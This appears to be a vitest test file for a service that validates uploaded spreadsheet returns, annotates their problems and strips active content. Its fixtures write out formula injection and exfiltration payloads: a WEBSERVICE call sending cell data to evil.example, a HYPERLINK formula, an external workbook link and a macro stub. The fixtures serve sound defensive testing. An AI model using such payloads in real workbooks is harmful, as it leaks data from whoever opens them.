import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { annotateWorkbook } from '../../src/matrix/annotate.js';
import { validateBuffer } from '../../src/matrix/validate.js';
import { NOW, toXlsx, validReturn } from './fixtures.js';
import { unzip, withPart, zip } from './zip-tools.js';

async function annotatedBroken() {
  const fx = validReturn();
  fx.lines.name = 'County Lines';
  fx.lines.rows[0]['Deal Numbers'] = '0771 234';
  fx.lines.rows[0]['Last Activity'] = '2023-12-01';
  fx.lines.rows[1]['Line Status'] = '=HYPERLINK("http://evil.example","x")';
  const original = await toXlsx(fx);
  const result = await validateBuffer(original, { now: NOW });
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load((await annotateWorkbook(original, result.problems)) as unknown as ArrayBuffer);
  return { wb, result };
}

describe('annotateWorkbook', () => {
  it('puts a Validation sheet first, with every problem and a link to its cell', async () => {
    const { wb, result } = await annotatedBroken();
    expect(wb.worksheets[0].name).toBe('Validation');
    const report = wb.getWorksheet('Validation')!;
    expect(report.rowCount).toBe(result.problems.length + 1);
    const linkCell = report.getColumn(3).values.find((v) => typeof v === 'object' && v !== null && 'hyperlink' in v) as ExcelJS.CellHyperlinkValue;
    expect(linkCell.hyperlink).toMatch(/^#'County Lines'!C2$/);
  });

  it('fills error cells red and warning cells amber, with the messages as notes', async () => {
    const { wb } = await annotatedBroken();
    const lines = wb.getWorksheet('County Lines')!;
    expect((lines.getCell('C2').fill as ExcelJS.FillPattern).fgColor?.argb).toBe('FFFFC7CE');
    expect(String(lines.getCell('C2').note)).toContain('Deal number 0771 234 is not a UK mobile number');
    expect((lines.getCell('K2').fill as ExcelJS.FillPattern).fgColor?.argb).toBe('FFFFEB9C');
  });

  it('neutralises text echoed from the upload so it cannot run as a formula', async () => {
    const { wb } = await annotatedBroken();
    const values: string[] = [];
    wb.getWorksheet('Validation')!.eachRow((row) => values.push(row.getCell(5).text));
    const echoed = values.find((v) => v.includes('HYPERLINK'));
    expect(echoed?.startsWith("'=")).toBe(true);
  });

  it('returns a clean file with a "no problems" report, keeping a sheet of the same name', async () => {
    const fx = validReturn();
    fx.extra.push({ name: 'Validation', headers: ['mine'], rows: [] });
    const original = await toXlsx(fx);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await annotateWorkbook(original, [])) as unknown as ArrayBuffer);
    expect(wb.worksheets[0].name).toBe('Validation 2');
    expect(wb.getWorksheet('Validation 2')!.getCell('F2').text).toBe('No problems found.');
  });
});

/**
 * A return carrying everything active a workbook can hold: formulas (one a
 * WEBSERVICE call), a data validation, a conditional format, a hyperlink out,
 * and — written into the zip by hand, as exceljs cannot — a defined name
 * pointing into another workbook, an external link part and a macro project.
 */
async function craftedReturn(): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load((await toXlsx(validReturn())) as unknown as ArrayBuffer);
  const lines = wb.getWorksheet('Lines')!;
  lines.getCell('X2').value = { formula: 'WEBSERVICE("http://evil.example/?d="&A2)', result: 'fetched' };
  lines.getCell('X3').value = { text: 'see the file', hyperlink: 'http://evil.example/dossier' };
  lines.getCell('Y2').value = { formula: 'SUM(Q2:Q3)', result: 4 };
  // exceljs writes data validations but leaves them out of its type declarations.
  (lines as ExcelJS.Worksheet & { dataValidations: { add(range: string, v: ExcelJS.DataValidation): void } }).dataValidations.add('G2:G100', { type: 'list', allowBlank: true, formulae: ['"ACTIVE,CLOSED,http://evil.example/"'] });
  lines.addConditionalFormatting({
    ref: 'A2:A100',
    rules: [{ type: 'expression', priority: 1, formulae: ['ISNUMBER(WEBSERVICE("http://evil.example/cf"))'], style: { fill: { type: 'pattern', pattern: 'solid', bgColor: { argb: 'FFFF0000' } } } }],
  });
  const parts = unzip(Buffer.from(await wb.xlsx.writeBuffer()));
  const text = (name: string) => parts.find((p) => p.name === name)!.data.toString('utf8');
  const workbookXml = text('xl/workbook.xml')
    .replace('</sheets>', '</sheets><externalReferences><externalReference r:id="rIdEvilLink"/></externalReferences>')
    .replace(/(<definedNames>|<\/workbook>)/, (m) =>
      m === '<definedNames>'
        ? '<definedNames><definedName name="Outside">[1]Secrets!$A$1</definedName>'
        : '<definedNames><definedName name="Outside">[1]Secrets!$A$1</definedName></definedNames></workbook>');
  const rels = text('xl/_rels/workbook.xml.rels').replace(
    '</Relationships>',
    '<Relationship Id="rIdEvilLink" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/>' +
      '<Relationship Id="rIdEvilVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
  );
  const types = text('[Content_Types].xml').replace(
    '</Types>',
    '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>' +
      '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
  );
  let edited = withPart(parts, 'xl/workbook.xml', workbookXml);
  edited = withPart(edited, 'xl/_rels/workbook.xml.rels', rels);
  edited = withPart(edited, '[Content_Types].xml', types);
  edited = withPart(
    edited,
    'xl/externalLinks/externalLink1.xml',
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"><sheetNames><sheetName val="Secrets"/></sheetNames></externalBook></externalLink>',
  );
  edited = withPart(
    edited,
    'xl/externalLinks/_rels/externalLink1.xml.rels',
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="http://evil.example/secrets.xlsx" TargetMode="External"/></Relationships>',
  );
  edited = withPart(edited, 'xl/vbaProject.bin', Buffer.from('VBA project of evil.example: Sub AutoOpen()'));
  return zip(edited);
}

describe('annotateWorkbook hands back nothing active from the upload', () => {
  it('writes values only: no formulas, validations, conditional formats, hyperlinks out, external links, names or macros', async () => {
    const crafted = await craftedReturn();
    // The crafted parts really are in the upload, so their absence below means something.
    const uploaded = unzip(crafted);
    const uploadedXml = uploaded.map((p) => p.data.toString('utf8')).join('\n');
    for (const active of ['<f>', '<dataValidation ', '<conditionalFormatting', '<hyperlink ', '<definedName ', 'externalLink', 'vbaProject']) expect(uploadedXml).toContain(active);

    const report = await annotateWorkbook(crafted, (await validateBuffer(crafted, { now: NOW })).problems);
    const parts = unzip(report);
    const names = parts.map((p) => p.name);
    expect(names.filter((n) => /externalLink|vbaProject|drawing|media|activeX|embeddings/i.test(n))).toEqual([]);
    for (const part of parts) {
      const xml = part.data.toString('utf8');
      expect(xml, part.name).not.toMatch(/<f[ >]/);
      expect(xml, part.name).not.toMatch(/dataValidation|conditionalFormatting|definedName|externalReference|TargetMode="External"/);
      expect(xml, part.name).not.toContain('evil.example');
      // Only the service's own links from the Validation sheet to the problem cells remain.
      for (const link of xml.match(/<hyperlink [^>]*>/g) ?? []) expect(link, part.name).toMatch(/location="/);
    }

    // The analyst's data is still there, as values.
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(report as unknown as ArrayBuffer);
    const lines = wb.getWorksheet('Lines')!;
    expect(lines.getCell('B2').value).toBe('JAY');
    expect(lines.getCell('X2').value).toBe('fetched');
    expect(lines.getCell('X3').value).toBe('see the file');
    expect(lines.getCell('Y2').value).toBe(4);
    expect(lines.getCell('J2').value).toEqual(new Date('2023-11-01T00:00:00Z'));
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Validation', 'Return', 'Lines', 'Nominals', 'Addresses', 'Associations']);
  });
});
